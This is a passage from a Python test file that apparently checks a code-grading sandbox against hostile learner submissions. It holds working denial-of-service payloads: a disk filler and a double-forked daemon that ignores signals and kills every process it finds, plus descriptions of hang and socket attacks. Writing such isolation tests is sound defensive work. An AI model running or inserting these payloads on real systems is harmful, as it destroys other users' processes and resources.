            with open(os.path.join(_folder, f"fill-{_i}.bin"), "wb") as _f:
                for _ in range(4):
                    _f.write(b"x" * (1 << 20))
        except OSError as _error:
            if _error.errno == 28:  # ENOSPC: full
                break
""" + WRONG_RELU

LINGERING_KILLER = """
import os
import signal
import time


def _haunt():
    \"\"\"A daemon that waits for this submission to end, then kills all the next learner starts.\"\"\"
    ours = os.getpid()
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    while os.path.exists(f"/proc/{ours}"):
        time.sleep(0.05)
    deadline = time.time() + 120
    while time.time() < deadline:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.01)
    os._exit(0)


_haunt()
""" + WRONG_RELU

# The learner graded next: honest, and chatty (prints, writes scratch files) as learners are.
CHATTY_RELU = """
import os

for _z in np.linspace(-5.0, 5.0, 2001):
    print(f"relu({_z:+.4f}) = {max(_z, 0.0):.4f}")
np.save("scratch.npy", np.linspace(-5.0, 5.0, 2001))
np.save(os.path.join("/tmp", "scratch.npy"), np.zeros(1000))


def relu(z):
    z = np.asarray(z, dtype=np.float64)
    print("relu of an array shaped", z.shape, z)
    return np.maximum(z, 0.0)
"""


@dataclass(frozen=True)
class Pair:
    attacker: Attack
    victim: str
    victim_answers: dict[str, str] = field(default_factory=dict)  # the reference elsewhere


PAIRS: tuple[Pair, ...] = (
    Pair(Attack("never-exits", "8 refuses to exit", "os._exit replaced: the process outlives its goodbye",
                {"relu": NEVER_EXITS}), "vic-after-never-exits"),
    Pair(Attack("half-closed-socket", "+ half-closed socket", "the grader sees EOF; the process lives on, asleep",
                {"relu": HALF_CLOSED_SOCKET}), "vic-after-half-closed"),
    Pair(Attack("trickled-reply", "9 a reply that never ends", "a 64 MB frame header, then a byte a second",
                {"relu": TRICKLED_REPLY}), "vic-after-trickle"),
    Pair(Attack("fills-scratch", "10 scratch space filled", "fills /tmp, /var/tmp, /dev/shm, ~, its folder; "
                "plants modules",
                {"relu": FILLS_SCRATCH}), "vic-after-filler", {"relu": CHATTY_RELU}),
    Pair(Attack("lingering-killer", "8 a daemon for the next learner", "double-forked, setsid, outlives the "
                "submission, then kills every process it sees",
                {"relu": LINGERING_KILLER}), "vic-after-killer"),
)
